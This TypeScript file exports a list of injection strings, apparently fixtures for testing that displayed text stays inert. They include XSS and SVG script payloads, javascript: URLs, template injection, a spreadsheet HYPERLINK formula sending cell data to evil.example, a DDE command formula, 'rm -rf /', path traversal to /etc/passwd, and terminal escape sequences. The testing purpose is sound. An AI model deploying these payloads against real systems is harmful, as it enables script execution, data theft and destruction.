/**
 * Texts that try to act on whoever shows them: as names, messages, logs and names of files.
 */

/** One for each language that a report may be read in. */
export const INERT_TEXTS: readonly string[] = [
  "](https://evil.example) [x](https://evil.example) ![x](https://evil.example/x.png)",
  "# heading\n\n| a | b |\n| - | - |\n- list\n> quote\n---",
  "`code` ``` fence ```\n```\nout of the fence\n```sh\nrm -rf /\n```",
  "<script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>x</a>",
  "</code></pre></summary></details><!-- <h1>out</h1>",
  "\"><b onclick='x'> &lt;b&gt; &#60;b&#62; &amp;",
  "@admin #12 GH-12 acme/other#7 :tada: www.evil.example https://evil.example $x$ ~~gone~~",
  "::error file=x::forged\n::add-mask::e\n##[error]forged\n##[group]x",
  "\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u001b[2J\u0007\r",
  "title x\n  section y\n  click z call alert(1)\n  z :done, 1, 2",
  "%%{init: {'securityLevel': 'loose'}}%% ;end; :crit, a, 1, 2 # comment",
  "accTitle: x\naccDescr { x }\ndateFormat YYYY\ntodayMarker on\nexcludes weekends",
  "\u202egnp.exe\u200b\u2066x\ufeff \ud800 \u0000",
  "</script><script>alert(3)</script>]]><noscript><p title='</noscript><img src=x onerror=alert(3)>'>",
  "<svg onload=alert(4)><style>*{display:none}</style><foreignObject><iframe src=javascript:alert(4)></svg>",
  "'><style>body{background:url(https://evil.example/x)}</style><link rel=stylesheet href=//evil.example/x>",
  '" style="position:fixed;inset:0" onmouseover="alert(5)" autofocus onfocus="alert(5)',
  "javascript:alert(6)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==",
  "{{constructor.constructor('alert(8)')()}} ${alert(8)} <%= alert(8) %>",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  "+1+2 -1 @SUM(1,2)",
  "__proto__",
  "constructor",
  "../../../etc/passwd",
  "a%0Ab%22%3E",
]
